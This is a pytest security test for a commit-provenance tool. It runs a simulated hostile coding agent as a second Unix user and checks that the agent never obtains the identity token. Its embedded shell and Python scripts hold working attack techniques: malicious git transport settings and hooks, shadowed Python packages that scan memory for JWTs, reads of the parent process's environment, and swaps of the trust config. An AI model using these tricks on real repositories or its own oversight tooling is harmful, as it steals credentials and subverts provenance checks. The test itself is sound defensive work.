"""A hostile agent running as another user, as the README recommends, never gets the token.

The wrapper runs as root (standing in for the human), the agent as a second user created here,
through ``setpriv``. The agent tries THREATS.md G53-G55 all at once: transport settings in
``.git/config`` (and a bare remote of its own with hooks), ``sigstore/``, ``securesystemslib/``
and ``provenance/`` packages in the work tree, and swapping the trust config, the key and the
token file. Every program it plants writes what it sees to a loot directory and a sentinel
named after the uid it ran as; the test then looks for the token in everything the agent
could write, and for any sentinel of uid 0.
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from provenance.devinstance import DevInstance
from tests.conftest import AGENT_ID, make_golden

ROOT = Path(__file__).resolve().parents[2]
USER = "provenance-agent"

pytestmark = pytest.mark.skipif(
    os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("setpriv"),
    reason="needs root with useradd and setpriv to run the agent as a second user",
)

EVIL = """#!/bin/sh
echo "$(id -u) $0 $*" >> "{ws}/sentinels/ran-$(id -u)"
env >> "{ws}/loot/evil-env-$(id -u)" 2>/dev/null
cat >> "{ws}/loot/evil-stdin-$(id -u)" 2>/dev/null
exit 1
"""
PLANTED_PY = """import gc, os
uid = os.getuid()
open("{ws}/sentinels/python-%d" % uid, "a").write("imported\\n")
with open("{ws}/loot/python-%d" % uid, "a") as out:
    out.write(repr(dict(os.environ)))
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            obj = list(obj.values())
        for v in obj if isinstance(obj, (list, tuple)) else ():
            if isinstance(v, str) and v.startswith("eyJ"):
                out.write("\\n" + v)
"""
AGENT = """#!/bin/sh
set -u
WS="{ws}"
export HOME="$WS/agent" GIT_CONFIG_GLOBAL="$WS/agent/gitconfig"
cd "$WS/repo"
env > "$WS/loot/agent-env" 2>&1
cat "/proc/$PPID/environ" > "$WS/loot/ppid-environ" 2>&1
cat "$WS/secrets/token" > "$WS/loot/token-file" 2>&1
# G53: transport settings for the human's next sync, and for the wrapper's own git calls
git config remote.origin.uploadpack "$WS/agent/evil.sh"
git config remote.origin.receivepack "$WS/agent/evil.sh"
git config core.sshCommand "$WS/agent/evil.sh"
git config core.gitProxy "$WS/agent/evil.sh"
git config credential.helper "!$WS/agent/evil.sh"
git config core.alternateRefsCommand "$WS/agent/evil.sh"
git config core.fsmonitor "$WS/agent/evil.sh"
git config "url.$WS/agent/evil-remote.git.insteadOf" "$WS/remote.git"
for hook in pre-receive update post-receive post-update reference-transaction; do
  cp "$WS/agent/evil.sh" "$WS/agent/evil-remote.git/hooks/$hook"
done
# G54: packages where the wrapper runs
for pkg in sigstore securesystemslib provenance cryptography; do
  mkdir -p "$pkg" && cp "$WS/agent/planted.py" "$pkg/__init__.py"
done
# G55: swap what decides where the token goes
cp "$WS/agent/fake.json" "$WS/secrets/trust_config.json" 2>> "$WS/loot/errors"
cp "$WS/agent/fake.json" "$WS/secrets/token" 2>> "$WS/loot/errors"
# and do the job
printf 'def is_admin(user):\\n    return user.role == "admin"\\n' > app/auth/roles.py
git add app/auth/roles.py && git commit -q -m "agent: roles"
"""


def _user() -> tuple[int, int]:
    try:
        entry = pwd.getpwnam(USER)
    except KeyError:
        subprocess.run(
            ["useradd", "--system", "--user-group", "--no-create-home",
             "--shell", "/usr/sbin/nologin", USER],
            check=True,
        )  # fmt: skip
        entry = pwd.getpwnam(USER)
    return entry.pw_uid, entry.pw_gid


@pytest.fixture
def workspace() -> Iterator[Path]:
    ws = Path(tempfile.mkdtemp(prefix="provenance-sep-", dir="/tmp"))
    ws.chmod(0o755)
    try:
        yield ws
    finally:
        shutil.rmtree(ws, ignore_errors=True)


def _share(path: Path, gid: int) -> None:
    """Group-writable for the agent's group, as a shared clone is."""
    subprocess.run(["chgrp", "-R", str(gid), str(path)], check=True)
    subprocess.run(["chmod", "-R", "g+rwX", str(path)], check=True)
    subprocess.run(["find", str(path), "-type", "d", "-exec", "chmod", "g+s", "{}", "+"],
                   check=True)  # fmt: skip


def _setup(ws: Path, dev: DevInstance, uid: int, gid: int) -> tuple[str, Path]:
    golden = make_golden(ws / "build", dev)
    subprocess.run(["git", "clone", "-q", "--bare", str(golden.repo.path), str(ws / "remote.git")],
                   check=True)  # fmt: skip
    subprocess.run(["git", "clone", "-q", "--config", "core.sharedRepository=group",
                    str(ws / "remote.git"), str(ws / "repo")], check=True)  # fmt: skip
    _share(ws / "repo", gid)
    for name, mode in (("secrets", 0o700), ("loot", 0o1777), ("sentinels", 0o1777)):
        (ws / name).mkdir()
        (ws / name).chmod(mode)
    token = dev.issue_token(AGENT_ID)
    (ws / "secrets" / "token").write_text(token)
    (ws / "secrets" / "token").chmod(0o600)
    shutil.copy(dev.trust_config_path, ws / "secrets" / "trust_config.json")
    agent = ws / "agent"
    agent.mkdir()
    (agent / "evil.sh").write_text(EVIL.format(ws=ws))
    (agent / "planted.py").write_text(PLANTED_PY.format(ws=ws))
    (agent / "fake.json").write_text('{"planted": true}')
    (agent / "agent.sh").write_text(AGENT.format(ws=ws))
    (agent / "gitconfig").write_text(
        "[safe]\n\tdirectory = *\n[user]\n\tname = Agent\n\temail = agent@example.com\n"
    )
    subprocess.run(["git", "init", "-q", "--bare", str(agent / "evil-remote.git")], check=True)
    for f in agent.rglob("*"):
        f.chmod(0o755 if f.is_dir() or f.suffix == ".sh" else 0o644)
    subprocess.run(["chown", "-R", f"{uid}:{gid}", str(agent)], check=True)
    return token, ws / "secrets" / "report.json"


def _provenance(
    args: list[str], cwd: Path, extra: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """The human's command line (agent-commit or the console script), no provenance on PATH."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PROVENANCE", "GIT_"))}
    env.update({"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", **(extra or {})})
    return subprocess.run(args, cwd=cwd, env=env, capture_output=True, text=True, check=False,
                          stdin=subprocess.DEVNULL, timeout=300)  # fmt: skip


def test_a_hostile_agent_of_another_user_never_reaches_the_token(
    workspace: Path, dev: DevInstance
) -> None:
    """THREATS.md G53, G54, G55 together, with the agent as a separate user."""
    ws = workspace
    uid, gid = _user()
    token, report = _setup(ws, dev, uid, gid)
    marker = token.rsplit(".", 1)[1]  # the JWT's signature: unique to this token
    human = {
        "GIT_AUTHOR_NAME": "Agent", "GIT_AUTHOR_EMAIL": "agent@example.com",
        "GIT_COMMITTER_NAME": "Agent", "GIT_COMMITTER_EMAIL": "agent@example.com",
    }  # fmt: skip
    run = _provenance(
        [str(ROOT / "scripts" / "agent-commit"), "--agent", "claude-code@2.1.0",
         "--model", "claude-opus-4", "--prompter", "alice@example.com",
         "--prompt-digest", "sha256:" + "5" * 64,
         "--identity-token", f"@{ws / 'secrets' / 'token'}",
         "--trust-config", str(ws / "secrets" / "trust_config.json"), "--report", str(report),
         "--", "setpriv", f"--reuid={uid}", f"--regid={gid}", "--init-groups",
         "/bin/sh", str(ws / "agent" / "agent.sh")],
        ws / "repo", human,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    summary = json.loads(report.read_text())
    assert len(summary["stamped"]) == 1 and summary["pending"] == []
    # the human syncs afterwards: refused loudly, nothing planted runs
    sync = _provenance([str(ROOT / ".venv" / "bin" / "provenance"), "sync"], ws / "repo")
    assert sync.returncode == 3 and "transport options" in sync.stderr, sync.stderr
    # The agent did try: its settings and packages are there, its swaps were refused.
    config = (ws / "repo" / ".git" / "config").read_text()
    assert "evil.sh" in config and (ws / "repo" / "sigstore" / "__init__.py").exists()
    assert "Permission denied" in (ws / "loot" / "errors").read_text()
    assert "Permission denied" in (ws / "loot" / "token-file").read_text()
    # Nothing it planted ran as root, and the token is nowhere it could read or write.
    assert sorted(p.name for p in (ws / "sentinels").iterdir() if p.name.endswith("-0")) == []
    for path in [*ws.rglob("*")]:
        if path.is_file() and not path.is_relative_to(ws / "secrets"):
            assert marker.encode() not in path.read_bytes(), path
    assert (ws / "secrets" / "token").read_text() == token
    verify = _provenance(
        [str(ROOT / ".venv" / "bin" / "provenance"), "verify", "HEAD", "--offline",
         "--trusted-root", str(dev.trusted_root_path), "--format", "json"],
        ws / "repo",
    )  # fmt: skip
    (commit,) = json.loads(verify.stdout)["commits"]
    assert [a["status"] for a in commit["attestations"]] == ["ok"], verify.stdout
